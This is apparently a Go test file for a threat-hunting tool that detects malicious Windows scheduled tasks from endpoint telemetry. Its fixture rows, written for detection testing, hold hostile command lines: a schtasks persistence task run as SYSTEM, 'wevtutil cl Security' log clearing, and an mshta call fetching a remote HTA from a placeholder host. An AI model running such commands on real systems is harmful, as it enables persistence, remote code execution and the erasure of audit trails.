package hunt_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/goshawk-hunt/goshawk/finding"
	"github.com/goshawk-hunt/goshawk/hunt"
	"github.com/goshawk-hunt/goshawk/hunt/exclusion"
	"github.com/goshawk-hunt/goshawk/kql/types"
)

// answers is a Querier that gives prepared answers by the query's name.
type answers map[string]answer

type answer struct {
	columns string // "Timestamp:datetime TaskName ..", string where no type is given
	rows    [][]any
	err     error
}

func (a answers) Query(_ context.Context, name, _ string) (types.Schema, [][]types.Value, []string, error) {
	w, ok := a[name]
	if !ok || w.err != nil {
		return nil, nil, nil, w.err
	}
	var schema types.Schema
	for _, c := range strings.Fields(w.columns) {
		n, typ, found := strings.Cut(c, ":")
		t := types.String
		if found {
			t, _ = types.Parse(typ)
		}
		schema = append(schema, types.Column{Name: n, Type: t})
	}
	var rows [][]types.Value
	for _, r := range w.rows {
		var row []types.Value
		for i, v := range r {
			row = append(row, value(schema[i].Type, v))
		}
		rows = append(rows, row)
	}
	return schema, rows, nil, nil
}

func value(t types.Type, v any) types.Value {
	switch v := v.(type) {
	case int:
		return types.Value{Type: t, Int: int64(v)}
	case string:
		return types.Value{Type: t, Str: v}
	}
	return types.Null(t)
}

// second is one second in ticks; base is 2024-01-01.
const (
	second = 10_000_000
	base   = 638396640000000000
)

func rule(id string) hunt.Rule {
	return hunt.Rule{ID: id, Name: id, Query: "T", Techniques: []string{"T1053.005"}, BuiltIn: true}
}

func TestRunMergesWhatSpeaksOfOneTask(t *testing.T) {
	q := answers{
		"command line": {columns: "Timestamp:datetime DeviceName FileName ProcessCommandLine ProcessId:long InitiatingProcessCommandLine",
			rows: [][]any{{base, "PC1", "schtasks.exe", `schtasks /create /tn evil /tr "C:\Users\Public\a.exe -q" /sc minute /mo 1 /ru SYSTEM`, 42, "cmd.exe /c x"}}},
		"event": {columns: "Timestamp:datetime DeviceName TaskName TaskEvent Command Arguments AccountName",
			rows: [][]any{{base + second, "pc1", `\evil`, "created", `C:\Users\Public\a.exe`, "-q", "ann"}}},
		"process": {columns: "Timestamp:datetime DeviceName FileName FolderPath ProcessCommandLine ProcessId:long InitiatingProcessFileName InitiatingProcessCommandLine",
			rows: [][]any{{base + 60*second, "pc1", "a.exe", `C:\Users\Public\a.exe`, `a.exe -q`, 77, "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"}}},
	}
	res, err := hunt.Run(t.Context(), []hunt.Rule{rule("command line"), rule("event"), rule("process")}, q, hunt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Findings) != 1 {
		t.Fatalf("%d findings, want one: %+v", len(res.Findings), res.Findings)
	}
	f := res.Findings[0]
	if f.Task == nil || f.Task.Name != `\evil` || len(f.Hunts) != 3 || len(f.Processes) != 2 {
		t.Errorf("finding does not hold the whole: %+v", f)
	}
	if f.Severity < finding.High {
		t.Errorf("severity %v (score %d), want high or more: %+v", f.Severity, f.Score, f.Reasons)
	}
	if f.First.String() != "2024-01-01T00:00:00.0000000Z" || len(f.Timeline) != 3 {
		t.Errorf("timeline begins %s with %d moments", f.First, len(f.Timeline))
	}
}

func TestRunGroupsTheFleet(t *testing.T) {
	q := answers{"event": {columns: "Timestamp:datetime DeviceName TaskName TaskEvent Command",
		rows: [][]any{
			{base, "a", `\Job`, "created", `C:\x\job.exe`},
			{base, "b", `\Job`, "created", `c:\X\job.exe`},
			{base, "c", `\Job`, "created", `C:\x\other.exe`},
		}}}
	res, err := hunt.Run(t.Context(), []hunt.Rule{rule("event")}, q, hunt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Findings) != 2 {
		t.Fatalf("%d findings, want one for each action", len(res.Findings))
	}
	devices := 0
	for _, f := range res.Findings {
		devices += len(f.Devices)
	}
	if devices != 3 {
		t.Errorf("%d devices in all, want 3", devices)
	}
}

func TestRunKeepsGoingAfterAnError(t *testing.T) {
	q := answers{
		"bad":  {err: errors.New("no such table")},
		"good": {columns: "DeviceName TaskName", rows: [][]any{{"a", `\x`}}},
	}
	res, err := hunt.Run(t.Context(), []hunt.Rule{rule("bad"), rule("good")}, q, hunt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcomes[0].Error != "no such table" || len(res.Findings) != 1 || res.Outcomes[1].Findings != 1 {
		t.Errorf("outcomes %+v, findings %d", res.Outcomes, len(res.Findings))
	}
}

func TestUserRuleKeepsItsSeverity(t *testing.T) {
	r := rule("mine")
	r.BuiltIn, r.Severity = false, finding.High
	q := answers{"mine": {columns: "Computer Odd", rows: [][]any{{"a", "b"}}}}
	res, err := hunt.Run(t.Context(), []hunt.Rule{r}, q, hunt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if f := res.Findings[0]; f.Severity != finding.High || f.Devices[0] != "a" {
		t.Errorf("severity %v on %v, want high on a", f.Severity, f.Devices)
	}
}

func TestCoverageExplainsNothing(t *testing.T) {
	r := rule("blind")
	r.Evidence = []hunt.Need{{For: "that a task was created", Any: []string{"security-task", "taskscheduler"}}}
	q := answers{"coverage: WindowsEvent": {columns: "Computer Channel EventID:int Rows:long First:datetime Last:datetime",
		rows: [][]any{{"PC1", "Security", 4624, 9, base, base}}}}
	res, err := hunt.Run(t.Context(), []hunt.Rule{r}, q, hunt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	o := res.Outcomes[0]
	if o.Sight != hunt.Blind || len(o.Missing) != 1 || !strings.Contains(o.Missing[0], "auditpol") {
		t.Errorf("sight %s, missing %q", o.Sight, o.Missing)
	}
}

func TestDossierFollowsTheTaskAndItsProcesses(t *testing.T) {
	q := answers{
		"event": {columns: "Timestamp:datetime DeviceName ActionType TaskName Command SourceTable",
			rows: [][]any{{base, "pc1", "ScheduledTaskCreated", `\evil "q"`, `C:\Users\Public\a.exe`, "ScheduledTaskEvents, Security"}}},
		"process": {columns: "Timestamp:datetime DeviceName TaskName FileName ProcessCommandLine ProcessId:long Role",
			rows: [][]any{{base + 9*second, "pc1", `\evil "q"`, "a.exe", "a.exe", 77, "started"}}},
		"dossier: events of tasks": {columns: "Timestamp:datetime DeviceName ActionType TaskName Command AccountName Source EventId:int ResultCode:long",
			rows: [][]any{
				{base, "PC1", "ScheduledTaskCreated", `\EVIL "q"`, `C:\Users\Public\a.exe`, "ann", "Security", 4698, nil},
				{base + 20*second, "pc1", "ScheduledTaskActionCompleted", `\evil "q"`, "a.exe", "", "TaskScheduler", 201, 2147942401},
				{base, "pc2", "ScheduledTaskCreated", `\evil "q"`, "other", "bob", "Security", 4698, nil},
			}},
		"dossier: processes": {columns: "Timestamp:datetime DeviceName FileName ProcessCommandLine ProcessId:long InitiatingProcessId:long",
			rows: [][]any{
				{base + 10*second, "pc1", "cmd.exe", "cmd.exe /c whoami", 78, 77},
				{base + 11*second, "pc1", "whoami.exe", "whoami", 79, 78},
				{base - 11*second, "pc1", "old.exe", "old", 80, 77},
			}},
	}
	res, err := hunt.Run(t.Context(), []hunt.Rule{rule("event"), rule("process")}, q, hunt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	f := res.Findings[0]
	var told []string
	for _, m := range f.Timeline {
		told = append(told, m.What)
	}
	want := []string{
		`task created, runs C:\Users\Public\a.exe (ann)`, "started by the Task Scheduler: a.exe", "which started cmd.exe /c whoami", "which started whoami",
		"task's action completed: a.exe, result 0x80070001, the program returned 1",
	}
	if strings.Join(told, "\n") != strings.Join(want, "\n") {
		t.Errorf("the timeline says\n%s\nwant\n%s", strings.Join(told, "\n"), strings.Join(want, "\n"))
	}
	if len(f.Processes) != 3 {
		t.Errorf("%d processes, want the started one, its child and its grandchild: %+v", len(f.Processes), f.Processes)
	}
}

func TestCoverageOfATableList(t *testing.T) {
	r := rule("mine")
	r.Tables = []string{"DeviceProcessEvents", "DeviceNetworkEvents", "SomethingElse", "Security Events (Windows)", "SecurityEvent", "SigninLogs", "TaskBaseline"}
	q := answers{"coverage: process": {columns: "DeviceName Rows:long First:datetime Last:datetime", rows: [][]any{{"a", 3, base, base}}},
		"coverage: SomethingElse": {err: errors.New("unknown table")},
		"coverage: SigninLogs":    {columns: "DeviceName Rows:long", rows: [][]any{{"", 4}}},
		"coverage: SecurityEvent": {columns: "DeviceName Rows:long", rows: [][]any{{"B", 4}}}}
	res, err := hunt.Run(t.Context(), []hunt.Rule{r}, q, hunt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"rows of DeviceProcessEvents: 1 of 2 devices have none (b)",
		"rows of DeviceNetworkEvents: none of network in the case; to have it: Defender for Endpoint, or Sysmon with NetworkConnect",
		"rows of SecurityEvent: 1 of 2 devices have none (a)"}
	if o := res.Outcomes[0]; o.Sight != hunt.Partial || !slices.Equal(o.Missing, want) || res.Coverage.Err != "" {
		t.Errorf("sight %s, missing %q, error %q", o.Sight, o.Missing, res.Coverage.Err)
	}
	for _, d := range res.Coverage.Devices {
		if d.Kinds["SigninLogs"] != 4 {
			t.Errorf("%s: rows of no device are %d", d.Device, d.Kinds["SigninLogs"])
		}
	}
}

func TestAnyColumnsMakeAFinding(t *testing.T) {
	r := rule("mine")
	r.BuiltIn = false
	for _, tt := range []struct {
		columns, title string
		row            []any
	}{
		{"Computer EventData:dynamic", "mine", []any{"A", `{"x":1}`}},
		{"DeviceName InitiatingProcessFileName InitiatingProcessCommandLine InitiatingProcessId:long Actions:dynamic", "evil.exe -x", []any{"A", "evil.exe", "evil.exe -x", 4, `["ConnectionSuccess"]`}},
		{"NewProcessName CommandLine Computer", "cmd /c x", []any{`C:\\Windows\\System32\\cmd.exe`, "cmd /c x", "A"}},
		{"n:long", "mine", []any{3}},
	} {
		res, err := hunt.Run(t.Context(), []hunt.Rule{r}, answers{"mine": {columns: tt.columns, rows: [][]any{tt.row}}}, hunt.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Findings) != 1 || res.Findings[0].Title != tt.title || res.Findings[0].Severity != finding.Low {
			t.Errorf("%s: %+v", tt.columns, res.Findings)
		}
	}
}

// TestRunsDefineNothing holds that the scheduler's log of runs, which has programs
// without arguments, neither changes a task's definition nor makes another task of it.
func TestRunsDefineNothing(t *testing.T) {
	const columns = "Timestamp:datetime DeviceName TaskName TaskEvent Command Arguments"
	made := []any{base, "a", `\Job`, "created", "cmd.exe", "/c x"}
	for _, tt := range []struct {
		what            string
		rows            [][]any
		command, former string
	}{
		{"a run after", [][]any{made, {base + second, "a", `\Job`, "ran", `C:\Windows\System32\cmd.exe`, ""}}, `C:\Windows\System32\cmd.exe`, ""},
		{"a run before", [][]any{made, {base - second, "a", `\Job`, "ran", `C:\Windows\System32\cmd.exe`, ""}}, `C:\Windows\System32\cmd.exe`, ""},
		{"a run of another program", [][]any{made, {base + second, "a", `\Job`, "ran", `C:\x\y.exe`, ""}}, "cmd.exe", `C:\x\y.exe`},
		{"a definition of the same name in another folder", [][]any{{base, "a", `\Job`, "created", `C:\Program Files\Long Name\j.exe`, ""}, {base + second, "a", `\Job`, "created", `C:\x\j.exe`, ""}}, `C:\x\j.exe`, `C:\Program Files\Long Name\j.exe`},
		{"a changed definition", [][]any{made, {base + second, "a", `\Job`, "updated", `C:\x\y.exe`, ""}}, `C:\x\y.exe`, "cmd.exe"},
	} {
		t.Run(tt.what, func(t *testing.T) {
			res, err := hunt.Run(t.Context(), []hunt.Rule{rule("event")}, answers{"event": {columns: columns, rows: tt.rows}}, hunt.Options{})
			if err != nil || len(res.Findings) != 1 {
				t.Fatalf("%v: %d findings, want one", err, len(res.Findings))
			}
			task, former := res.Findings[0].Task, ""
			for _, a := range task.Former {
				former += a.Command
			}
			if len(task.Actions) != 1 || task.Actions[0].Command != tt.command || former != tt.former {
				t.Errorf("runs %+v, formerly %+v; want %s, formerly %q", task.Actions, task.Former, tt.command, tt.former)
			}
		})
	}
}

// asked keeps the questions of exclusions.
type asked struct {
	answers
	exclusions []string
}

func (a *asked) Query(ctx context.Context, name, kql string) (types.Schema, [][]types.Value, []string, error) {
	if strings.HasPrefix(name, "exclusion ") {
		a.exclusions = append(a.exclusions, kql)
		return types.Schema{{Name: "Finding", Type: types.Long}, {Name: "Row", Type: types.Long}}, nil, nil, nil
	}
	return a.answers.Query(ctx, name, kql)
}

func TestExclusionsSeeTheFinalScore(t *testing.T) {
	q := asked{answers: answers{
		"event": {columns: "Timestamp:datetime DeviceName TaskName TaskEvent Command Arguments AccountName",
			rows: [][]any{{base, "pc1", `\evil`, "created", `C:\Users\Public\a.exe`, "-q", "ann"}}},
		"process": {columns: "Timestamp:datetime DeviceName FileName FolderPath ProcessCommandLine ProcessId:long ProcessCreationTime:datetime InitiatingProcessFileName InitiatingProcessCommandLine",
			rows: [][]any{{base + 60*second, "pc1", "a.exe", `C:\Users\Public\a.exe`, `a.exe -q`, 77, base + 60*second, "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"}}},
		"dossier: processes": {columns: "Timestamp:datetime DeviceName FileName ProcessCommandLine ProcessId:long InitiatingProcessId:long InitiatingProcessCreationTime:datetime",
			rows: [][]any{{base + 61*second, "pc1", "wevtutil.exe", "wevtutil cl Security", 78, 77, base + 60*second}}},
	}}
	exclude := &exclusion.Set{List: []*exclusion.Exclusion{{ID: "x", Owner: "o", Reason: "r", Where: "Severity == 'low' and Score < 3", Expires: time.Now().AddDate(1, 0, 0), Loose: ""}}}
	res, err := hunt.Run(t.Context(), []hunt.Rule{rule("event"), rule("process")}, &q, hunt.Options{Exclude: exclude, Today: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	f := res.Findings[0]
	if f.Dossier == nil || len(q.exclusions) != 1 {
		t.Fatalf("no dossier, or %d questions of the exclusion", len(q.exclusions))
	}
	if n := len(f.Processes); n != 2 || !slices.ContainsFunc(f.Reasons, func(r finding.Reason) bool { return r.Property == finding.Behaviour }) {
		t.Fatalf("%d processes, the reasons lack what the dossier proves: %+v", n, f.Reasons)
	}
	if want := fmt.Sprintf("0, %q, %d]", f.Severity, f.Score); !strings.Contains(q.exclusions[0], want) {
		t.Errorf("the exclusion is not asked of %s:\n%s", want, q.exclusions[0])
	}
}

// TestWhatNamesNoDevice: a copied task file joins the finding of the devices that have
// that task, unless devices have different tasks of its name: nothing says whose it is.
func TestWhatNamesNoDevice(t *testing.T) {
	file := []any{base, "", `\Upd`, "", `C:\Users\Public\a.exe`, "S-1-5-18"}
	for name, tt := range map[string]struct {
		rows     [][]any
		findings int
	}{
		"one device":                 {[][]any{{base, "pc1", `\Upd`, "created", `C:\Users\Public\a.exe`, ""}, file}, 1},
		"devices with the same task": {[][]any{{base, "pc1", `\Upd`, "created", `C:\Users\Public\a.exe`, ""}, {base, "pc2", `\Upd`, "created", `C:\Users\Public\a.exe`, ""}, file}, 1},
		"devices with other tasks":   {[][]any{{base, "pc1", `\Upd`, "created", `C:\Users\Public\a.exe`, ""}, {base, "pc2", `\Upd`, "created", `C:\Users\Public\b.exe`, ""}, file}, 3},
	} {
		q := answers{"event": {columns: "Timestamp:datetime DeviceName TaskName TaskEvent Command RunAs", rows: tt.rows}}
		res, err := hunt.Run(t.Context(), []hunt.Rule{rule("event")}, q, hunt.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Findings) != tt.findings {
			t.Errorf("%s: %d findings, want %d", name, len(res.Findings), tt.findings)
		}
		for _, f := range res.Findings {
			if tt.findings == 3 && len(f.Devices) > 0 && f.Task.Principal != "" {
				t.Errorf("%s: %v runs as %s, which only the file of no device says", name, f.Devices, f.Task.Principal)
			}
		}
	}
}

// A rule may return Defender's rows of tasks as they are: they are about the task that
// their AdditionalFields name, and judged by its definition.
func TestRowsAsDefenderWritesThem(t *testing.T) {
	const columns = "Timestamp:datetime DeviceName ActionType AccountName InitiatingProcessAccountName AdditionalFields:dynamic"
	const text = `{"Actions":{"Exec":{"Command":"mshta.exe","Arguments":"https://x.example/a.hta"}},"Principals":{"Principal":{"UserId":"S-1-5-18"}},"Triggers":{"LogonTrigger":{}},"RegistrationInfo":{"Author":"ann"}}`
	quoted, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	for name, fields := range map[string]string{
		"text":     `{"TaskName":"\\Sync","TaskContent":` + string(quoted) + `}`,
		"object":   `{"TaskName":"\\Sync","TaskContent":` + text + `}`,
		"a change": `{"TaskName":"\\Sync","TaskContent":"<Task/>","TaskContentNew":` + string(quoted) + `}`,
	} {
		q := answers{"raw": {columns: columns, rows: [][]any{{base, "pc1", "ScheduledTaskCreated", "", "ann", fields}}}}
		r := rule("raw")
		res, err := hunt.Run(t.Context(), []hunt.Rule{r}, q, hunt.Options{})
		if err != nil || len(res.Findings) != 1 {
			t.Fatalf("%s: %d findings, %v", name, len(res.Findings), err)
		}
		f := res.Findings[0]
		if f.Task == nil || f.Task.Name != `\Sync` || len(f.Task.Actions) != 1 || f.Task.Actions[0].Command != "mshta.exe" || f.Task.Principal != "S-1-5-18" ||
			f.Task.Author != "ann" || len(f.Task.Starts) != 1 || len(f.Task.Makers) != 1 || f.Task.Makers[0].Account != "ann" || f.Task.CreatedBy != "ann" {
			t.Errorf("%s: %+v", name, f.Task)
		}
		if f.Severity < finding.High {
			t.Errorf("%s: %v: %+v", name, f.Severity, f.Reasons)
		}
	}
	// what is no JSON, and rows of other actions, say nothing of a task
	for name, row := range map[string][]any{
		"no JSON": {base, "pc1", "ScheduledTaskCreated", "", "ann", "TaskName"},
		"another": {base, "pc1", "ServiceInstalled", "", "ann", `{"TaskName":"\\Sync"}`},
	} {
		res, err := hunt.Run(t.Context(), []hunt.Rule{rule("raw")}, answers{"raw": {columns: columns, rows: [][]any{row}}}, hunt.Options{})
		if err != nil || len(res.Findings) != 1 || res.Findings[0].Task != nil && res.Findings[0].Task.Name != "" {
			t.Errorf("%s: %+v, %v", name, res.Findings, err)
		}
	}
}
